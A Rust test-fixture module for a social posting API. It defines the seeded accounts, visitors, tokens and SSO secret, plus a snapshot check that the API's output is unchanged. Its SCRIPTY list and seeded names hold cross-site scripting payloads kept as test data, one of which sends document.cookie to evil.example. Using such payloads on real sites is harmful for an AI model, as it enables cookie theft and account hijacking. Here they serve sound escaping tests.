//! The seeded world: the accounts, visitors, tokens and texts every case
//! acts on, and the snapshot of everything the API shows of them.

use super::*;

pub(crate) const ACME: &str = "acme";
pub(crate) const OTHER: &str = "other";
/// A valid handle no account has.
pub(crate) const GHOST: &str = "ghost";
/// The handle that refused account creations try to take.
pub(crate) const INTRUDER: &str = "intruder";
/// acme's post with two stored pages of replies: the `{id}` of the matrix.
pub(crate) const THREAD: &str = "acme-0";
/// acme's post with the script-like replies.
pub(crate) const SCRIPT_THREAD: &str = "acme-1";
/// acme's post deleted before the matrix (it had a reply).
pub(crate) const DELETED: &str = "acme-2";
/// ana's first reply in THREAD: the `{id}` of the reply routes.
pub(crate) const REPLY: &str = "acme-0-0";
/// dan's reply to acme-3, which the brand hid before the matrix.
pub(crate) const HIDDEN_REPLY: &str = "acme-3-0";
/// other's post hidden before the matrix.
pub(crate) const HIDDEN_POST: &str = "other-2";
/// cleo's reply waiting in acme's queue (a blocked word): the `{id}` of the queue routes.
pub(crate) const QUEUED: &str = "0";
/// dan's reply waiting in acme's queue after cleo's (a link).
pub(crate) const QUEUED_LINK: &str = "1";
/// acme's SSO secret, set before the matrix.
pub(crate) const SSO_SECRET: &str = "acme-signs-its-customers-0123456789";
/// acme's customer, as acme's site names them.
pub(crate) const CUSTOMER_SUB: &str = "client-7";
pub(crate) const CUSTOMER_NAME: &str = "Zoé";
/// The one site acme lets write through its widget, and one it does not.
pub(crate) const SHOP: &str = "https://shop.example";
pub(crate) const EVIL: &str = "https://evil.example";
pub(crate) const ACME_POSTS: u64 = 55;
pub(crate) const THREAD_REPLIES: u64 = 52;
/// acme's posts from this number on hold [`SCRIPTY`].
pub(crate) const FIRST_SCRIPTY_POST: u64 = 40;
pub(crate) const TEN_MB: usize = 10 * 1024 * 1024;
/// `u64::MAX` in base 36: the largest number an id or a cursor holds.
pub(crate) const U64_MAX_B36: &str = "3w5e11264sgsf";
/// `u64::MAX + 1`: one too many.
pub(crate) const U64_OVER_B36: &str = "3w5e11264sgsg";

pub(crate) const ACME_NAME: &str = "Acme <b>Corp</b> & Co";
pub(crate) const ACME_BIO: &str = "<iframe src=\"javascript:alert(1)\"></iframe> We make <i>things</i> & \"stuff\".";
/// A visitor name that is markup (40 characters at most).
pub(crate) const BOB_NAME: &str = "<img src=x onerror=alert('bob')>";

/// Texts that look like markup or code: stored and answered verbatim, as text.
pub(crate) const SCRIPTY: [&str; 10] = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "</script><script>alert(1)</script>",
    "\"><svg onload=alert(1)>",
    "&lt;b&gt;not decoded&lt;/b&gt; &amp; &#60;script&#62;",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "line\u{2028}separator\u{2029}paragraph",
    "<!-- --><style>*{display:none}</style>",
    "\\u003cscript\\u003e \\\" \\\\",
];

/// acme's settings, set before the matrix: open, so that normal replies still
/// publish, with a blocked word and links queued (what fills the queue), and
/// one site allowed to write.
pub(crate) fn acme_settings() -> Value {
    json!({"moderation": "open", "blocked_words": ["arnaque"], "links": "queue", "sso_required": false, "origins": [SHOP]})
}

/// What acme's site signs for its customer, with acme's SSO secret: a new
/// token, good once, for ten minutes.
pub(crate) fn customer_sso() -> String {
    sso::token(SSO_SECRET, ACME, CUSTOMER_SUB, CUSTOMER_NAME)
}

/// A good SSO token of acme's customer, spent by the seed's sign-in of zoé:
/// the `sso` of the matrix's sign-ins, refused before acme's hub or spent.
pub(crate) static CUSTOMER_SSO: LazyLock<String> = LazyLock::new(customer_sso);

pub(crate) fn sso_sign_in(account: &str, sso: &str) -> Vec<u8> {
    json!({"account": account, "sso": sso}).to_string().into_bytes()
}

pub(crate) fn post_text(n: u64) -> String {
    match n.checked_sub(FIRST_SCRIPTY_POST).and_then(|i| SCRIPTY.get(i as usize)) {
        Some(text) => (*text).to_owned(),
        None => format!("acme post number {n}"),
    }
}

pub(crate) fn now_seconds() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).expect("clock after 1970").as_secs()
}

pub(crate) struct World {
    pub(crate) edge: Edge,
    pub(crate) seed: OnceLock<Seed>,
}

impl World {
    pub(crate) fn seed(&self) -> &Seed {
        self.seed.get().expect("the seed step failed: nothing to check against")
    }
}

pub(crate) struct Seed {
    /// Follows acme; wrote REPLY.
    pub(crate) ana: Session,
    /// Follows acme and other; his name is markup.
    pub(crate) bob: Session,
    /// Follows other; has a reply waiting in acme's queue: the visitor `/v1/me` acts as.
    pub(crate) cleo: Session,
    /// Followed acme, then unfollowed; wrote HIDDEN_REPLY, and a reply waiting in acme's queue.
    pub(crate) dan: Session,
    /// The visitor the matrix acts as elsewhere: follows nothing, wrote nothing.
    pub(crate) mallory: Session,
    /// acme's customer, signed in by acme's SSO; replied to acme-4.
    pub(crate) zoe: Session,
    /// acme's brand token (its community manager's), and one issued then revoked.
    pub(crate) acme_cm: IssuedToken,
    pub(crate) revoked: IssuedToken,
    /// other's brand token.
    pub(crate) other_cm: IssuedToken,
    /// A webhook of acme's, and one of other's.
    pub(crate) acme_hook: CreatedWebhook,
    pub(crate) other_hook: CreatedWebhook,
    /// An upload of acme's no post took, and one of other's.
    pub(crate) acme_upload: Uploaded,
    pub(crate) other_upload: Uploaded,
    /// Real `next` cursors of acme's feed and of THREAD's replies.
    pub(crate) feed_next: String,
    pub(crate) thread_next: String,
    pub(crate) before: Snapshot,
}

impl Seed {
    pub(crate) fn visitors(&self) -> [(&'static str, &Session); 6] {
        [
            ("ana", &self.ana),
            ("bob", &self.bob),
            ("cleo", &self.cleo),
            ("dan", &self.dan),
            ("mallory", &self.mallory),
            ("zoe", &self.zoe),
        ]
    }

    pub(crate) fn uploads(&self) -> [(&'static str, &Uploaded); 2] {
        [(ACME, &self.acme_upload), (OTHER, &self.other_upload)]
    }
}

/// Everything the API shows of the seeded data, read by read.
#[derive(Debug, PartialEq)]
pub(crate) struct Snapshot(pub(crate) Vec<(String, Value)>);

fn to_value<T: Serialize>(value: T) -> Value {
    serde_json::to_value(value).expect("serializable")
}

impl Snapshot {
    /// The accounts, their whole feeds, every post, every post's whole
    /// replies, the follow state of every visitor for every account, every
    /// account's settings, brand tokens, queue and hidden posts and replies
    /// (as the operator sees them), every visitor's whole timeline and
    /// `/v1/me`, the uploads' bytes, and a sign-in by acme's SSO.
    pub(crate) async fn take(e: &Edge, visitors: &[(&str, &Session)], uploads: &[(&str, &Uploaded)]) -> Result<Snapshot, String> {
        let mut reads = Vec::new();
        for handle in [ACME, OTHER] {
            let path = format!("/v1/accounts/{handle}");
            reads.push((format!("GET {path}"), e.get(&path).send().await.check_json::<Value>(200)?));
            let feed = e.feed_all(handle, Some(50)).await?;
            for post in &feed {
                let path = format!("/v1/posts/{}", post.id);
                let read: Value = e.get(&path).send().await.check_json(200)?;
                let count = read["replies"].as_u64().ok_or_else(|| format!("{path}: no reply count"))?;
                reads.push((format!("GET {path}"), read));
                let replies = e.replies_all(&post.id, Some(50)).await?;
                reads.push((format!("replies of {} walked from the first page", post.id), to_value(replies)));
                // Each stored page by its cursor too, whatever the walk reaches.
                for from in (50..count).step_by(50) {
                    let path = format!("{path}/replies?limit=50&cursor={}", b36(from));
                    reads.push((format!("GET {path}"), e.get(&path).send().await.check_json::<Value>(200)?));
                }
            }
            reads.push((format!("the whole feed of {handle}"), to_value(feed)));
            for (name, visitor) in visitors {
                reads.push((
                    format!("{name} follows {handle}"),
                    to_value(e.follow_state(&visitor.token, handle).await?),
                ));
            }
            for what in ["settings", "tokens", "queue", "hidden"] {
                let path = format!("/v1/accounts/{handle}/{what}");
                reads.push((format!("GET {path}"), e.admin(e.get(&path)).send().await.check_json::<Value>(200)?));
            }
        }
        for (name, visitor) in visitors {
            reads.push((format!("timeline of {name}"), to_value(e.timeline_all(&visitor.token, Some(50)).await?)));
            let me: Value = e.get("/v1/me").bearer(&visitor.token).send().await.check_json(200)?;
            reads.push((format!("GET /v1/me of {name}"), me));
        }
        for (handle, upload) in uploads {
            let path = format!("/media/{handle}/{}", upload.id);
            let served = e.get(&path).send().await;
            reads.push((format!("GET {path}"), json!({"status": served.status, "bytes": served.body.len()})));
        }
        // No call reads an SSO secret back: a sign-in with acme's shows it still holds.
        let sso = e.post("/v1/session/sso").raw(sso_sign_in(ACME, &customer_sso())).send().await;
        let mut answer: Value = serde_json::from_slice(&sso.body).map_err(|err| format!("{}: {err}", sso.label))?;
        // The session token holds its expiry, which moves with the clock.
        answer.as_object_mut().and_then(|session| session.remove("token"));
        reads.push(("a sign-in of acme's customer by SSO".into(), json!({"status": sso.status, "answer": answer})));
        Ok(Snapshot(reads))
    }

    /// `Ok` if `now` shows exactly what `self` showed; else what differs.
    pub(crate) fn same_as(&self, now: &Snapshot) -> Result<(), String> {
        let short = |v: &Value| {
            let s = v.to_string();
            if s.len() > 300 { format!("{}…", s.chars().take(300).collect::<String>()) } else { s }
        };
        let now_map: BTreeMap<&str, &Value> = now.0.iter().map(|(k, v)| (k.as_str(), v)).collect();
        let before_map: BTreeMap<&str, &Value> = self.0.iter().map(|(k, v)| (k.as_str(), v)).collect();
        let mut diffs = Vec::new();
        for (label, was) in &self.0 {
            match now_map.get(label.as_str()) {
                None => diffs.push(format!("{label}: gone (was {})", short(was))),
                Some(is) if *is != was => diffs.push(format!("{label}: was {}, now {}", short(was), short(is))),
                Some(_) => {}
            }
        }
        for (label, is) in &now.0 {
            if !before_map.contains_key(label.as_str()) {
                diffs.push(format!("{label}: new, {}", short(is)));
            }
        }
        ensure!(diffs.is_empty(), "{} read(s) changed:\n    {}", diffs.len(), diffs.join("\n    "));
        Ok(())
    }
}
